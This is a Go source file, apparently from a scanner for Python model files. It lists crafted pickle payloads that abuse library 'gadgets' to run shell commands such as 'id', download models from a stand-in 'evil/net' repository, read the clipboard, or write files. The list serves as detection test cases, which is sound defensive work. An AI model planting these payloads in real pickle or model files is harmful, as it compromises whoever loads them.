package policy

import "github.com/modelgate/modelgate/finding"

// bypassesGadgets are library functions that run code, reach the network
// or touch files when a pickle calls them: gadgets outside the classic
// lists, reviewed for dangerous.txt.
var bypassesGadgets = []bypass{
	{"copy_reconstruct_calls_function",
		"ccopy\n_reconstruct\n(NNcos\nsystem\n(S'id'\ntttR.", // GLOBAL MARK NONE NONE GLOBAL MARK STRING TUPLE TUPLE TUPLE REDUCE STOP
		[]string{"copy._reconstruct"}, finding.Critical, ""},
	{"sitebuiltins_helper",
		"c_sitebuiltins\n_Helper\n)R(S'os'\ntR.", // GLOBAL EMPTY_TUPLE REDUCE MARK STRING TUPLE REDUCE STOP
		[]string{"_sitebuiltins._Helper"}, finding.Critical, ""},
	{"pandas_read_csv_url",
		"cpandas\nread_csv\n(S'http://127.0.0.1:9/x.csv'\ntR.", // GLOBAL MARK STRING TUPLE REDUCE STOP
		[]string{"pandas.read_csv"}, finding.Critical, ""},
	{"pandas_read_clipboard",
		"cpandas\nread_clipboard\n)R.", // GLOBAL EMPTY_TUPLE REDUCE STOP
		[]string{"pandas.read_clipboard"}, finding.Critical, ""},
	{"dataframe_to_pickle_dotted",
		"\x80\x04\x8c\x06pandas\x8c\x13DataFrame.to_pickle\x93.", // PROTO SHORT_BINUNICODE SHORT_BINUNICODE STACK_GLOBAL STOP
		[]string{"pandas.DataFrame.to_pickle"}, finding.Critical, ""},
	{"pathlib_write_text_dotted",
		"\x80\x04cpathlib\nPath.write_text\n(cpathlib\nPath\n(S'/tmp/x'\ntRS'x'\ntR.", // PROTO GLOBAL MARK GLOBAL MARK STRING TUPLE REDUCE STRING TUPLE REDUCE STOP
		[]string{"pathlib.Path.write_text"}, finding.Critical, ""},
	{"torch_save_writes_file",
		"ctorch\nsave\n(NS'/tmp/x'\ntR.", // GLOBAL MARK NONE STRING TUPLE REDUCE STOP
		[]string{"torch.save"}, finding.Critical, ""},
	{"transformers_from_pretrained",
		"\x80\x04\x8c\x0ctransformers\x8c\x19AutoModel.from_pretrained\x93\x8c\x08evil/net\x85R.", // PROTO SHORT_BINUNICODE SHORT_BINUNICODE STACK_GLOBAL SHORT_BINUNICODE TUPLE1 REDUCE STOP
		[]string{"from_pretrained"}, finding.Critical, ""},
	{"huggingface_hub_download",
		"chuggingface_hub\nhf_hub_download\n(S'evil/net'\nS'x.pt'\ntR.", // GLOBAL MARK STRING STRING TUPLE REDUCE STOP
		[]string{"huggingface_hub.hf_hub_download"}, finding.Critical, ""},
	{"antigravity_import_opens_browser",
		"cantigravity\ngeohash\n.", // GLOBAL STOP
		[]string{"antigravity.geohash"}, finding.Critical, ""},
	{"numpy_datasource_fetch",
		"cnumpy\nDataSource\n)R.", // GLOBAL EMPTY_TUPLE REDUCE STOP
		[]string{"numpy.DataSource"}, finding.Critical, ""},
	{"keras_load_model",
		"ckeras.models\nload_model\n(S'/tmp/m.h5'\ntR.", // GLOBAL MARK STRING TUPLE REDUCE STOP
		[]string{"keras.models.load_model"}, finding.Critical, ""},
	{"numpy_distutils_exec_command",
		"cnumpy.distutils.exec_command\n_exec_command\n(S'id'\ntR.", // GLOBAL MARK STRING TUPLE REDUCE STOP
		[]string{"numpy.distutils.exec_command._exec_command"}, finding.Critical, ""},
}
